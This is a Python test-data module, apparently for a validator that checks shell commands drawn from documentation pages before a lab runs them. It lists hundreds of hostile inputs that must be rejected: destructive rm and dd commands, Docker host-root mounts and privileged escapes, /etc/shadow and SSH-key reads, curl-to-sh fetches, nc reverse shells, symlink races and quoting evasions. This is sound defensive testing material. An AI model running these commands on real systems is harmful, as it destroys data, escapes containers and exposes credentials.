"""Inputs that would change a reader's machine. None of them may reach a script."""

from __future__ import annotations

from .judging import code, console, fence, file

# Each is a shell command as a page may have it.
SHELL = r"""
cp x ../../etc/y
rm -rf ../../x
cd ..
cd ../..; rm -rf x
mkdir a && cd a && cd ../.. && rm -rf x
cd a; cd ..; cd ..
cd nowhere; rm -rf ../x
cd -
cd /
cd /etc && touch x
cd $OLDPWD
cd "$x"
cd ~root
cd "$(docker inspect --format '{{.Id}}' web)"
pushd /etc
for i in 1 2 3; do cd ..; done
find / -delete
find . -delete
find . -exec rm {} +
find . -name x -fprint /etc/x
find ../.. -name x
find -L / -name x
docker cp web:/x /etc/x
docker cp web:/x ../x
docker cp web:/x ~/../x
docker cp /etc web:/x
docker cp -L web:/x x && echo y > x
docker cp web:/d d; echo y > d/link
docker container cp web:/x /etc/x
docker run --mount type=bind,source=/etc,target=/e busybox true
docker run --mount type=bind,src=/etc,dst=/e,readonly busybox true
docker run --mount "type=bind,source=$PWD/../..,target=/e" busybox true
docker run --mount type=volume,source=v,target=/e,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/ busybox true
docker run --mount '"type=bind",source=/etc,target=/e' busybox true
docker run --mount=type=bind,source=/,target=/h busybox true
docker run -v /:/h busybox true
docker run -v/:/h busybox true
docker run --volume=/:/h busybox true
docker run -iv /:/h busybox true
docker run -dv /etc:/h busybox true
docker run -v ~/..:/h busybox true
docker run -v $PWD/..:/h busybox true
docker run -v "$(pwd)/../..:/h" busybox true
docker run -v "$x:/h" busybox true
docker run -v ../..:/h busybox true
docker run -v /root:/h busybox true
docker run -v /var/run/docker.sock:/s busybox true
docker run -v /run:/s busybox true
docker run -v //:/h busybox true
docker run -v /./:/h busybox true
docker run -v site:/h:shared busybox true
docker run -v /root/../etc:/h busybox true
docker container run -v /:/h busybox true
docker container create -v /:/h busybox true
docker create -v /etc:/h busybox true
docker --debug run -v /:/h busybox true
docker -D run -v /:/h busybox true
docker -H unix:///var/run/docker.sock run -v /:/h busybox true
docker -H tcp://10.0.0.1:2375 ps
docker -H ssh://root@localhost ps
docker --host tcp://10.0.0.1 ps
docker --host=tcp://10.0.0.1 ps
docker --context other ps
docker -c other ps
docker --config /etc ps
docker context use other
DOCKER_HOST=tcp://10.0.0.1 docker ps
export DOCKER_HOST=tcp://10.0.0.1
DOCKER_CONFIG=/etc docker login -u a -p b localhost:5000
docker run --privileged --pid=host busybox nsenter -t 1 -m touch /x
docker run --privileged --pid host busybox true
docker run --privileged busybox mount /dev/sda1 /mnt
docker run --privileged busybox sh -c 'mount /dev/sda1 /mnt; rm -rf /mnt/home'
docker run --privileged busybox sh -c "$x"
docker run --privileged alpine hostname other
docker run --privileged -d busybox hostname
docker run --privileged -it busybox
docker run --privileged --entrypoint sh busybox -c 'mount /dev/sda1 /mnt'
docker run --privileged busybox
docker run --privileged --network host busybox ip link set lo down
docker run --privileged=true busybox mount /dev/sda1 /mnt
docker run --rm --privileged busybox sh -c 'echo 1 > /proc/sys/kernel/panic'
docker run --rm --privileged busybox sh -c 'echo b > /proc/sysrq-trigger'
docker exec --privileged web mount /dev/sda1 /mnt
docker run --pid=host busybox kill -9 1
docker run --pid host busybox kill 1
docker run --ipc=host busybox true
docker run --uts=host busybox hostname x
docker run --userns=host busybox true
docker run --cgroupns=host busybox true
docker run --cgroup-parent=/ busybox true
docker run --device /dev/sda busybox dd if=/dev/zero of=/dev/sda
docker run --device=/dev/sda:/dev/x busybox true
docker run --device-cgroup-rule='b *:* rwm' busybox true
docker run --gpus all busybox true
docker run --cap-add ALL busybox true
docker run --cap-add=SYS_ADMIN busybox true
docker run --cap-add SYS_MODULE busybox true
docker run --cap-add SYS_TIME busybox date -s 2000-01-01
docker run --cap-add CAP_SYS_PTRACE busybox true
docker run --security-opt seccomp=unconfined busybox true
docker run --security-opt apparmor=unconfined busybox true
docker run --security-opt systempaths=unconfined busybox true
docker run --network host busybox nc -l -p 22
docker run --network=host busybox sh -c 'nc 127.0.0.1 5432 < /x'
docker run --net host busybox true; docker run --net host busybox wget -qO- http://localhost/shutdown
docker run --network ns:/proc/1/ns/net busybox true
docker run -d --network host busybox httpd
docker run --network host -it busybox
docker run --sysctl kernel.shmmax=1 busybox true
docker run --runtime other busybox true
docker run --volume-driver other -v x:/y busybox true
docker run --log-driver syslog busybox echo hello
docker run --log-driver journald busybox echo hello
docker run --log-driver fluentd --log-opt fluentd-address=10.0.0.1 busybox true
docker run --cidfile /tmp/x busybox true
docker run --cidfile ../x busybox true
docker run --env-file /etc/shadow busybox env
docker run --label-file /etc/shadow busybox true
docker run --storage-opt size=1 --oom-score-adj -1000 busybox true
docker run $options busybox true
docker run $(cat options) busybox true
docker run "$option" busybox true
x='-v /:/h'; docker run $x busybox true
x=-v; docker run $x /:/h busybox true
for x in -v --privileged; do docker run $x busybox true; done
docker run busybox"$x" true -v /:/h; docker run -e "$x" -v /:/h busybox true
docker run -v $PWD:/w alpine ln -s / /w/x; rm -rf x/home
docker run -v $PWD/d:/w busybox ln -s /etc /w/x; cp y d/x/
docker run -v $PWD/d:/w busybox sh -c 'ln -s /etc /w/x'; echo y > d/x
docker run -v $PWD/d:/w busybox sh -c 'l""n -s /etc /w/x'; echo y > d/x
docker run -v $PWD/d:/w busybox sh -c "$x"; echo y > d/x
docker run -d --name a -v $PWD/d:/w busybox sleep 10; docker exec a ln -s /etc /w/x; echo y > d/x/z
docker run -d --name a -v $PWD/d:/w busybox sleep 10; docker run --volumes-from a busybox ln -s / /w/x; rm -rf d/x/etc
docker run -v $PWD:/w busybox sh -c 'mkdir -p /w/.docker/cli-plugins; cp x /w/.docker/cli-plugins/docker-buildx'; docker build .
docker run --rm --entrypoint sh -v $PWD:/w busybox -c 'ln -s / /w/x'
docker build -o /etc .
docker build --output type=local,dest=/etc .
docker build --output=../x .
docker build --metadata-file /etc/x .
docker build --iidfile /etc/x .
docker build --cache-to type=local,dest=/etc .
docker build --secret id=x,src=/etc/shadow .
docker build --ssh default .
docker build --build-context x=/etc .
docker build --allow security.insecure .
docker build --allow network.host --network host .
docker build --network host .
docker build -f /etc/shadow .
docker build /
docker build ..
docker build ~/..
docker build https://example.com/evil.git
docker build - < /etc/shadow
docker build -t busybox .; docker run --privileged busybox hostname
docker build -t docker.io/library/busybox .
docker tag evil busybox; docker run --privileged busybox hostname
docker commit evil busybox:latest
docker import evil.tar busybox
docker load -i evil.tar
docker buildx bake
docker buildx build -o /etc .
docker save x > /root/x.tar
docker save -o /etc/x busybox
docker save busybox > /tmp/x
docker export web > ../x
docker export -o /etc/x web
docker plugin install vieux/sshfs
docker plugin enable x
docker volume create --opt type=none --opt o=bind --opt device=/ v
docker volume create -o type=none -o o=bind -o device=/etc v; docker run -v v:/h busybox rm -rf /h
docker volume create -d other v
docker network create -d macvlan -o parent=eth0 x
docker network create --driver host x
docker network create --opt com.docker.network.bridge.name=eth0 x
docker service create --mount type=bind,source=/,target=/h busybox rm -rf /h/etc
docker service create --cap-add ALL busybox true
docker service update --mount-add type=bind,source=/,target=/h x
docker stack deploy -c evil.yaml x
docker swarm join --token x 10.0.0.1:2377
docker swarm init --advertise-addr 8.8.8.8
docker system prune -a --volumes -f
docker image prune -a -f
docker rmi $(docker images -q)
docker push ann/x
docker compose -f /etc/evil.yaml up
docker compose -f - up
docker compose --env-file /etc/shadow up
docker compose --project-directory / up
docker compose run -v /:/h web rm -rf /h
docker compose cp web:/x /etc/x
docker compose -f ../compose.yaml up
docker compose alpha x
docker-compose -f /etc/x up
COMPOSE_FILE=/etc/x docker compose up
docker evil
docker trust sign x
docker scan x
docker checkpoint create --checkpoint-dir /etc web x
echo x | xargs rm -rf
find . | xargs -I{} rm -rf {}/..
docker ps -q | xargs sh -c 'rm -rf /'
docker ps -q | xargs docker run -v /:/h
ls | xargs -0 rm
echo /etc/x | xargs touch
echo -v /:/h busybox | xargs docker run
python3 -c 'import os; os.system("rm -rf /")'
python3 -c 'print(1)'
python3 -c 'import json, sys; print(json.load(open("/etc/shadow")))'
python3 -c 'import json, sys; print(sys.modules["os"].system("x"))'
python3 -c 'import json, sys; print(json.load(sys.stdin), file=open("/etc/x", "w"))'
python3 -c "$x"
python3 x.py
python3 - < x
python3 -m pip install x
python3 -m json.tool x /etc/x
python3 -m http.server 8000 --directory /
python3 -m http.server 8000 --bind 0.0.0.0
python3 -m tarfile -e x.tar /etc
python3 -m tarfile -c /etc/x.tar y
python3 -im json.tool
python3 -m zipfile -e x /
rm -rf /root; ls
rm -rf /root
rm -rf "/root"
rm -rf $HOME/..
rm -rf ~/..
rm -rf $HOME/../..
rm -rf ~
rm -rf .
rm -rf ./
rm -rf ..
rm -rf x/../..
rm -rf x/../../y
rm -rf -- ../x
rm -rf $x/
rm -rf "$x"/y
rm -rf ${x:-/etc}
rm -rf ${x}/y
rm -rf ${HOME%/*}
rm -rf "${HOME/part/}"
rm -rf $(echo /etc)
rm -rf `echo /etc`
rm -rf $'\x2fetc'
rm -rf {a,../../b}
rm -rf a/{b,../../..}
rm -rf /etc/*
rm -rf ../*
rm -rf .*
rm -rf */../..
rm -rf ~root/x
rm -rf ~ann
rm -rf ~+/..
rm -rf ~-/x
x=~root; rm -rf $x
x=..; rm -rf $x/$x
x=/etc; rm -rf $x
for x in a ../../b; do rm -rf $x; done
for x in a b; do x=/etc; rm -rf $x; done
while true; do rm -rf $x/y; x=..; done
if true; then x=/etc; fi; rm -rf $x
true && x=/etc; rm -rf $x
(x=/etc; rm -rf $x)
{ rm -rf /etc; }
! rm -rf /etc
rm -rf /etc &
time rm -rf /etc
x=1 rm -rf /etc
HOME=/ rm -rf ~/etc
HOME=/etc
PWD=/etc; rm -rf $PWD
export HOME=/etc
IFS=x
PATH=.:$PATH docker ps
PATH=. docker ps
LD_PRELOAD=./x.so ls
BASH_ENV=x bash -c true
TMPDIR=/etc
CDPATH=/; cd etc
PS4='$(rm -rf /etc)' true
PROMPT_COMMAND='rm -rf /'
ENV=x sh -c true
GREP_OPTIONS=x grep y z
TAR_OPTIONS=--to-command=sh tar tf x
PYTHONPATH=. python3 -m json.tool
PYTHONSTARTUP=x
page_work=/etc
page_code=1
eval 'rm -rf /etc'
eval "$x"
source ./x
. ./x
./x
x/y
/bin/rm -rf /etc
/usr/bin/env rm -rf /etc
env -i rm -rf /etc
env rm -rf /etc
command rm -rf /etc
builtin cd /
exec rm -rf /etc
exec > /etc/x
exec 3> /etc/x
nohup rm -rf /etc
nice rm -rf /etc
setsid rm -rf /etc
timeout 5 rm -rf /etc
timeout -k 1 5 rm -rf /etc
timeout --foreground --kill-after 1 5 rm -rf /etc
timeout 5 sh -c 'rm -rf /etc'
timeout 5 env rm -rf /etc
timeout 5 cd /
sudo rm -rf /etc
sudo -u ann touch x
su ann -c id
sh -c 'rm -rf /etc'
sh -c 'rm -rf $0' /etc
sh -c 'rm -rf "$@"' x /etc
sh -c "$x"
sh -c "rm -rf $x"
sh -ec 'rm -rf /etc'
sh -c 'cd /; rm -rf etc'
sh -c 'cd ..; rm -rf x'
sh -c "sh -c 'rm -rf /etc'"
bash -c 'rm -rf /etc'
bash -lc true
bash x.sh
bash < x
echo 'rm -rf /etc' | sh
echo 'rm -rf /etc' | bash -s
sh <<EOF
bash <(echo rm -rf /etc)
cat <<EOF
cat <<< x > /etc/y
ls() { rm -rf /etc; }; ls
function ls { rm -rf /etc; }
alias ls='rm -rf /etc'
trap 'rm -rf /etc' EXIT
trap "rm -rf /etc" INT
set -e
shopt -s extglob
enable -f ./x.so y
hash -p ./x ls
case x in x) rm -rf /etc;; esac
select x in a; do rm -rf /etc; done
coproc rm -rf /etc
[[ -v a[$(rm -rf /etc)] ]]
[[ $x -eq 1 ]]
[ -v 'a[$(rm -rf /etc)]' ]
((x = 1))
echo $((a[$(rm -rf /etc)]))
echo ${a[$(rm -rf /etc)]}
echo ${!x}
echo ${x@P}
echo "$(rm -rf /etc)"
echo `rm -rf /etc`
echo "`rm -rf /etc`"
echo "a $(echo "b $(rm -rf /etc)")"
echo ${x:-$(rm -rf /etc)}
x=$(rm -rf /etc)
x=`rm -rf /etc` ls
cat <(rm -rf /etc)
tee >(cat > /etc/x)
[ "$(rm -rf /etc)" = x ]
until rm -rf /etc; do true; done
for x in $(rm -rf /etc); do true; done
printf -v HOME /etc
read HOME
declare HOME=/etc
local HOME=/etc
readonly HOME=/etc
typeset HOME=/etc
let HOME=1
mapfile x < y
getopts x HOME
wait $x
unset HOME
unset -f cd
echo 1 > /etc/x
echo 1 >> /etc/x
echo 1 >| /etc/x
echo 1 &> /etc/x
echo 1 2> /etc/x
echo 1 <> /etc/x
echo 1 &>> /etc/x
echo 1 >& /etc/x
> /etc/x
echo 1 > ../x
echo 1 > ~/../x
echo 1 > $x
echo 1 > "$x/y"
echo 1 > ~ann/x
echo 1 > /root/../etc/x
echo 1 > /dev/sda
echo 1 > /dev/tcp/10.0.0.1/80
echo 1 > /proc/sysrq-trigger
echo 1 > /dev/shm/x
echo 1 > .bashrc
echo 1 > .curlrc
echo 1 > .docker/config.json
echo 1 > .docker/cli-plugins/docker-buildx
echo 1 > -rf
echo 'output = /etc/x' > .curlrc; curl -s http://localhost/
mkdir -p .local/lib/python3.11/site-packages
{ echo 1; } > /etc/x
(echo 1) > /etc/x
for x in 1; do echo 1; done > /etc/x
if true; then echo 1; fi > /etc/x
while true; do echo 1; done > /etc/x
ls | cat > /etc/x
ls && cat x > /etc/x
cat < /etc/shadow
cat < ~/../x
ln -s / x
ln -s /etc x; rm -rf x/y
ln x y
cp -s /etc x
cp -l /etc/passwd x
cp -r /etc x
cp -a /usr/bin x
cp x /etc/y
cp -t /etc x
cp --target-directory=/etc x
cp x y /etc
cp /etc/shadow x
cp x .docker/y
mv x /etc/y
mv /etc/passwd x
mv -t /etc x
mv x ..
mkdir /etc/x
mkdir -p ../x
mkdir -m 777 /etc/x
touch /etc/x
touch -r /etc/passwd ../x
chmod 777 /etc
chmod -R 777 ..
chmod u+s x
chmod 4755 x
chmod --reference=/etc x
chown ann x
chgrp docker x
chattr +i x
setfacl -m u:ann:rwx x
install x /etc/y
dd if=/dev/zero of=/dev/sda
dd of=/etc/x
truncate -s 0 /etc/x
shred x
mkfifo x
mknod x b 8 0
rsync -a x /etc
scp x ann@example.com:
tee /etc/x
tee -a ../x
tee x /etc/y
sed -i s/a/b/ /etc/x
sed -i s/a/b/ ../x
sed -i.bak s/a/b/ x
sed -i -e s/a/b/ -e 's/x/y/w /etc/z' x
sed 's/a/b/e' x
sed 's/a/rm -rf \/etc/e' x
sed 'w /etc/x' y
sed -n '1e rm -rf /etc' x
sed 's/a/b/w /etc/x' y
sed '1r /etc/shadow' x
sed -f x y
sed '1!e rm' x
sed 'p;e' x
sed --in-place s/a/b/ /etc/x
awk 'BEGIN { system("rm -rf /etc") }'
awk 'BEGIN { print > "/etc/x" }'
perl -e 'unlink "/etc/x"'
ruby -e x
node -e x
tar xf x.tar
tar -xf x.tar -C /
tar cf /etc/x.tar y
tar czf ../x.tgz y
tar cf x.tar /etc
tar cf x.tar -C / etc
tar cf x.tar -C .. y
tar cf x.tar --checkpoint=1 --checkpoint-action=exec=sh y
tar cf x.tar -I 'sh -c x' y
tar --to-command=sh -xf x
tar cf x.tar --use-compress-program=sh y
tar -cf x -T /etc/y
unzip x
gzip /etc/x
cpio -i < x
sort -o /etc/x y
sort --output=/etc/x y
sort --compress-program=sh y
sort -T /etc x
uniq x /etc/y
split x /etc/y
csplit x 1
date -s 2000-01-01
date --set=2000-01-01
date 010100002000
hostname other
hostname -F x
ip link set eth0 down
ip addr add 10.0.0.1/24 dev eth0
ip route del default
ip netns exec x sh
ip -batch x
iptables -F
iptables -t nat -F
iptables -I DOCKER-USER -j DROP
iptables -S; iptables -F
iptables-restore < x
sysctl -w kernel.panic=1
mount -t tmpfs none /mnt
mount /dev/sda1 x
mount -l; umount /
umount /
service docker restart
service docker status; service docker stop
systemctl restart docker
systemctl status docker --no-pager; systemctl stop docker
dockerd
dockerd --help -H tcp://0.0.0.0:2375; dockerd
nsenter -t 1 -m
chroot /
unshare -r sh
kill 1
kill -9 1
kill -9 -1
kill $server
kill $(pgrep dockerd)
kill -9 $(docker inspect --format '{{.State.Pid}}' web)
kill $$
kill 0
x=1; kill $x
killall dockerd
pkill -f docker
useradd ann
usermod -aG docker ann
passwd ann
crontab x
at now
apt-get install -y x
apt-key add x
pip install x
npm install x
git clone https://example.com/x
ssh localhost rm -rf /etc
curl -o /etc/x http://localhost/
curl -O http://localhost/x
curl -s http://example.com/
curl -s https://example.com/x | sh
curl -s file:///etc/shadow
curl -T /etc/shadow http://localhost/
curl -d @/etc/shadow http://localhost/
curl -F x=@/etc/shadow http://localhost/
curl -K x
curl -w '%output{/etc/x}y' http://localhost/
curl --output-dir /etc -O http://localhost/x
curl -D /etc/x http://localhost/
curl -c /etc/x http://localhost/
curl --trace /etc/x http://localhost/
curl -s http://$x/
curl http://localhost@example.com/
curl -s --unix-socket /run/other.sock http://localhost/
curl -s --unix-socket /var/run/docker.sock -d '{"Image": "busybox", "HostConfig": {"Binds": ["/:/h"]}}' 'http://localhost/containers/create?name=x'
curl -s --unix-socket /var/run/docker.sock -d '{"Image": "busybox", "HostConfig": {"Privileged": true}}' 'http://localhost/containers/create?name=x'
curl -s --unix-socket /var/run/docker.sock -d @x 'http://localhost/containers/create?name=x'
curl -s --unix-socket /var/run/docker.sock -d "$x" 'http://localhost/containers/create?name=x'
curl -s --unix-socket /var/run/docker.sock -X POST http://localhost/swarm/init
curl -s --unix-socket /var/run/docker.sock -X PUT http://localhost/containers/x/archive?path=/
curl -s --unix-socket /var/run/docker.sock -X POST http://localhost/volumes/create
curl -s --unix-socket /var/run/docker.sock -X POST http://localhost/containers/x/../create?name=y
wget http://localhost/x
wget -O /etc/x http://localhost/
wget -qO- http://example.com/
wget -i x
wget --post-file=/etc/shadow http://localhost/
nc -e sh 127.0.0.1 80
nc -c sh 127.0.0.1 80
nc -l -p 80 > /etc/x
nc example.com 80 < x
echo -e "POST /containers/create HTTP/1.0\r\n" | nc -U /var/run/docker.sock
cat x | nc -U /var/run/docker.sock
nc -U /var/run/docker.sock < x
echo "$x" | nc -U /var/run/docker.sock
nc -U /run/other.sock
openssl req -keyout /etc/x
jq . x
vi x
less x
man x
make x
gcc x.c
insmod x.ko
reboot
shutdown now
loginctl terminate-user ann
gsettings set x y z
xdg-open x
cat ~/.ssh/id_rsa
cat /home/ann/.ssh/id_rsa
cat /etc/shadow
cat ../../x
cat $x
cat "$(docker run busybox cat /x)"
ls ~ann
ls /home
ls ../..
grep -r password /
grep x /etc/shadow
grep -f /etc/shadow x
grep -e x /home/ann/.netrc
head /dev/sda
base64 /etc/shadow
diff /etc/shadow x
stat /home/ann
du -sh /home
wc -l /etc/shadow
od /dev/mem
readlink -f ~ann
tail -f /var/log/syslog
dokcer run busybox
unknown-command
gti status
chmod 666 /dev/null
mv /dev/null x
touch /dev/stdout
rm /dev/null
ip route flush
ip link delete
ip addr add
iptables -S -F
find -delete
x=/etc; while false; do x=a; done; rm -rf $x
x=/etc; for y in; do x=a; done; rm -rf $x
x=a; until false; do rm -rf $x; x=/etc; done
docker run $(docker port web) busybox
docker run $(docker inspect --format '{{.Id}}' --help) busybox
echo FLUSHALL | nc 127.0.0.1 6379
curl -X DELETE http://localhost:9200/_all
curl -d x http://localhost:9200/
docker run --rm --privileged -v $PWD/d:/bin:ro busybox hostname
docker run --rm --privileged -v d:/bin busybox hostname
docker run --rm --privileged -e PATH=/d busybox hostname
docker run --rm --network host -v $PWD/d:/bin:ro busybox hostname
docker run -v $PWD/d:/bin busybox ls; rm -rf d/x/y
docker run -e PATH=/w -v $PWD/d:/w busybox ls; rm -rf d/x/y
docker run -v $PWD/d:/w --health-cmd 'ln -s / /w/x' busybox sleep 10; rm -rf d/x/y
docker run -d --name a -v $PWD/d:/w busybox sleep 10; docker exec -e PATH=/w a ls; rm -rf d/x/y
docker run -d --name a -v $PWD/d:/w busybox sleep 10; docker cp ls a:/bin/ls; docker exec a ls; rm -rf d/x/y
docker run -d --name a -v $PWD/d:/w busybox sleep 10; while true; do rm -rf d/x/y; done & docker exec a ln -s / /w/x
mkdir -p d/cgi-bin; docker run -d -v $PWD/d:/w busybox httpd -f -h /w; rm -rf d/x/y
docker run -d -v $PWD/d:/w busybox httpd -f -h /w; mkdir d/cgi-bin; touch d/cgi-bin/x; rm -rf d/x/y
echo 'ln -s / /w/x' | docker run -i -v $PWD/d:/w busybox sh; rm -rf d/x/y
docker run -v $PWD/d:/w busybox tar xf /w/evil.tar -C /w; rm -rf d/x/y
docker build https://example.com/x
docker build git@example.com:x
docker build github.com/x/y
wget http://localhost/.curlrc
echo 'never closed
rm -rf "a
rm -rf${IFS}/etc
rm$IFS-rf$IFS/etc
r''m -rf /etc
\rm -rf /etc
"rm" -rf /etc
$'\x72m' -rf /etc
$(echo rm) -rf /etc
{rm,-rf,/etc}
rm -rf /{etc,usr}
rm -rf {..,x}/y
rm -rf ./.*
rm -rf .[!x]*/..
rm -rf ~+/../x
echo x >| /etc/x
echo x &> /etc/x
echo x &>> /etc/x
echo x >& /etc/x
echo x <> /etc/x
echo x 3<> /etc/x
echo x {fd}> /etc/x
exec 3> /etc/x; echo x >&3
bash <<< 'rm -rf /etc'
source x
sh x
bash -c "$x"
echo 'rm -rf /etc' | bash
eval $x
alias ls='rm -rf /etc'; ls
function docker { rm -rf /etc; }
unalias -a; alias x=y
tee /etc/x < y
echo x | tee -a ../../x
install -m 755 x /usr/local/bin/x
install -D x ../../y/z
ln -s / r && rm -rf r/etc
ln -sf /etc/passwd x; echo > x
tar -C / -xf x.tar
tar -xf x.tar --to-command=sh
tar -P -xf x.tar
git -C / init
git clone https://x/y
curl -o /etc/x http://x
curl --output ../../x localhost
curl -K x localhost
curl file:///etc/shadow
wget -O /etc/x localhost
dd of=/etc/x if=y
find . -exec rm -rf {} +
find / -name x -delete
find x -fprintf /etc/x %p
docker run -v $PWD/..:/x busybox true
docker run -v "$(pwd)/..":/x busybox true
docker run -v ${PWD%/*}:/x busybox true
docker run -itv /:/h busybox true
docker run --mount source=/etc,target=/x,type=bind busybox true
docker run --mount 'type=bind,"src=/etc",dst=/x' busybox true
docker run --mount type=volume,dst=/x,volume-driver=local,volume-opt=type=none,volume-opt=device=/etc,volume-opt=o=bind busybox true
docker volume create --opt type=none --opt device=/ --opt o=bind x
docker volume create -o device=/etc -o type=none -o o=bind v
docker run --device /dev/sda busybox true
docker run --pid host --privileged busybox true
docker run --cap-add SYS_ADMIN --security-opt apparmor=unconfined busybox true
docker run --cap-add=ALL --network host busybox ip link del eth0
docker run --userns=host --uts host busybox hostname x
docker run --ipc host busybox true
docker run --cgroup-parent / busybox true
docker run --cidfile /etc/x busybox true
docker run --sysctl kernel.x=1 busybox true
docker run --add-host x:y -v ../x:/y busybox true
docker create -v /:/h --name x busybox
docker container create --volume /:/h busybox
docker build --output /etc .
docker build --output type=local,dest=../.. .
docker build --metadata-file ../../x .
docker buildx build --load --cache-to type=local,dest=/etc .
docker buildx create --config /etc/x
docker cp x:/y /etc
docker cp /etc/shadow x:/
docker cp x:/y - | tar -C / -x
docker export -o ../../x web
docker load -i /etc/x
docker import /etc/x
docker context create x --docker host=tcp://x
docker context use x
docker context import x /etc/y
docker plugin install x
docker swarm ca --rotate --ca-cert /etc/x
docker secret create x /etc/shadow
docker config create x ../../y
docker stack deploy -c /etc/x y
docker service create --mount type=bind,source=/,target=/h busybox
docker system prune -af --volumes
docker exec --env-file /etc/shadow web env
docker --tlscacert /etc/x ps
docker compose -f /etc/x up
docker compose --env-file /etc/shadow config
docker compose cp web:/x /etc
docker compose run -v /:/h web
docker compose run --volume=/:/h web true
docker compose up --watch
docker compose config -o /etc/x
docker compose config --hash web -o /etc/x
docker events --until 0s > /etc/x
docker compose config --output ../../x
env X=1 rm -rf /etc
nohup rm -rf /etc &
builtin cd /etc
sudo ls
su -c x
xargs -a x rm
xargs -I{} rm -rf {}
seq 3 | xargs -n1 docker run -v /:/h busybox
awk 'BEGIN{system("rm -rf /etc")}'
awk '{print > "/etc/x"}' y
sed -n 'w /etc/x' y
sed -i.bak 's/a/b/' ../../x
sed 's/x/rm/e' y
python3 -c 'import os'
jq -n 'env'
jq -r . --slurpfile x /etc/shadow y
sort --compress-program=sh x
touch -r x ../../y
chmod -R 777 /etc
chown -R x ../..
mkfifo /etc/x
mktemp -p /etc
nc -l -p 80 -e sh
nc -e sh localhost 80
openssl enc -out /etc/x -in y
gzip -c x > /etc/y
base64 -d x | sh
printf -v PATH %s .
read HOME <<< /etc; rm -rf ~/x
local HOME=/
for HOME in /etc; do rm -rf ~/x; done
mapfile -t HOME < x
x=/etc; rm -rf "$x"
x=/; x+=etc; rm -rf $x
x=..; rm -rf ../$x
rm -rf "${x:-/etc}"
rm -rf ${x:=/etc}
rm -rf "${HOME%%/*}/etc"
rm -rf "${PWD/root/etc}"
rm -rf "$(echo /etc)"
rm -rf $((1))/../..
rm -rf ${!x}
rm -rf "$@"
set -- /etc; rm -rf "$1"
shopt -s dotglob; rm -rf *
set -f; rm -rf *
trap 'rm -rf /etc' DEBUG
PROMPT_COMMAND='rm -rf /etc'
PS4='$(rm -rf /etc)'; set -x
[[ -n $(rm -rf /etc) ]]
[ -n "$(rm -rf /etc)" ]
(( x[$(rm -rf /etc)] ))
echo ${x[$(rm -rf /etc)]}
pkill x
killall x
systemctl stop x
mount -o bind / x
umount /proc
ip link del eth0
sysctl -w x=1
hostname x
date -s x
history -c
ulimit -f 0
exit 0; rm -rf /etc
wait; kill $$
echo x > "$HOME/../x"
echo x > ~/.ssh/authorized_keys
echo x > $(docker ps -q)
echo x > $x
cd "$(mktemp -d)"
cd -P ..; cd ..
cd x; docker run -v ..:/y busybox
popd
rmdir ..
mv * ..
cp -r . ..
cp --parents x /etc
cat x >> ../y
ssh x y
scp x y:z
rsync x /etc
screen -d
docker run busybox sh -c 'x' > /etc/y
docker run -v /var/run/docker.sock:/s busybox
docker run -v /var/run:/s busybox
DOCKER_HOST=ssh://x docker ps
BUILDKIT_HOST=x docker build .
COMPOSE_PROJECT_NAME=x COMPOSE_FILE=/etc/x docker compose up
""".strip("\n").split("\n")

# Whatever is recorded as not found on the lab's machine may be found on a reader's.
NOT_FOUND = ["rm-everything", "sl", "gti push", "ifconfig eth0 down", "apt-key add x", "shutdown now", "./x"]

WHOLE: list[tuple[str, ...]] = [
    (console("cat <<EOF\n$(rm -rf /etc)\nEOF"),),
    (console("cat > /etc/x <<'EOF'\ny\nEOF"),),
    (console("bash <<'EOF'\nrm -rf /etc\nEOF"),),
    (console("ls; \\\nrm -rf /etc"),),
    (console("echo a\nrm -rf /etc"),),
    (console("cd a"), console("cd ../.."), console("rm -rf x")),
    (console("x=/etc"), console("rm -rf $x")),
    (console("x='-v /:/h'"), console("docker run $x busybox true")),
    (console("mkdir a && cd a"), console("cd .."), console("cd ..")),
    (console("cd a", exit_code=1), console("rm -rf ../x")),
    (file("/root/x"),),
    (file("/etc/docker/daemon.json", "{}\n", "json"),),
    (file("../../../etc/x"),),
    (file("x/../../y"),),
    (file("~ann/x"),),
    (file("-rf"),),
    (file("x/-rf/y"),),
    (file(".curlrc", 'output = "/etc/x"\n'),),
    (file(".bashrc", "rm -rf /etc\n"),),
    (file(".docker/config.json", "{}\n"),),
    (file(".docker/cli-plugins/docker-buildx", "#!/bin/sh\n"),),
    (file("a/.docker/cli-plugins/docker-buildx", "#!/bin/sh\n"),),
    (file(".local/lib/python3.11/site-packages/usercustomize.py", "x\n"),),
    (file("daemon.json", '{"hosts": ["tcp://0.0.0.0:2375"]}\n', "json"),),
    (file("json.py", "import os\n", "python"), console("python3 -m json.tool")),
    (file("json/tool.py", "import os\n", "python"), console("python3 -m json.tool")),
    (file("x.txt"), console("cp x.txt json.py"), console("python3 -m json.tool")),
    (file("x.txt"), console("mv x.txt http.py"), console("python3 -m http.server 8000")),
    (file("x.sh", "rm -rf /etc\n"), console("sh x.sh")),
    (file("stand-in.py", "import os\nos.system('x')\n", "python"), console("python3 stand-in.py")),
    (file("stand-in.py", "import os\nos.system('x')\n", "python"), console("python3 ./stand-in.py")),
    (file("x.sh", "rm -rf /etc\n"), console("chmod +x x.sh"), console("./x.sh")),
    (file("x.sh", "rm -rf /etc\n"), console(". x.sh")),
    (
        file("app/Dockerfile", "FROM busybox\nRUN --security=insecure mount /dev/sda /mnt\n", "dockerfile"),
        console("docker build app"),
    ),
    (
        file("app/Dockerfile", "FROM busybox\nRUN --network=host nc 127.0.0.1 22\n", "dockerfile"),
        console("docker build app"),
    ),
    (
        file("app/Dockerfile", "FROM busybox\nRUN nc 127.0.0.1 22\n", "dockerfile"),
        console("docker build --network host app"),
    ),
    (
        file("app/Dockerfile", "FROM busybox\nRUN wget -q -O- http://example.com/ | sh\n", "dockerfile"),
        console("docker build --network host app"),
    ),
    (fence("console tty", "$ bash"),),
    (fence('console tty prompt="$ "', "$ sh -c 'cat'", "$ rm -rf /etc"),),
    (fence('console tty prompt="# "', "$ cat", "# x"),),
    (fence('console tty prompt="# "', "$ docker run -it -v /:/h busybox", "# rm -rf /h/etc"),),
    (fence('console tty prompt="# "', "$ docker run -it --privileged busybox", "# mount /dev/sda1 /mnt"),),
    (
        fence('console tty prompt="# "', "$ docker run -it -v $PWD/d:/w busybox", "# ln -s / /w/x"),
        console("rm -rf d/x/y"),
    ),
    (fence('console tty prompt="# "', "$ docker ps; bash", "# rm -rf /etc"),),
]


def _compose(text: str, *more: str, name: str = "compose.yaml") -> tuple[str, ...]:
    return (file(name, text, "yaml"), *more, console("docker compose up -d"))


def _service(*lines: str) -> tuple[str, ...]:
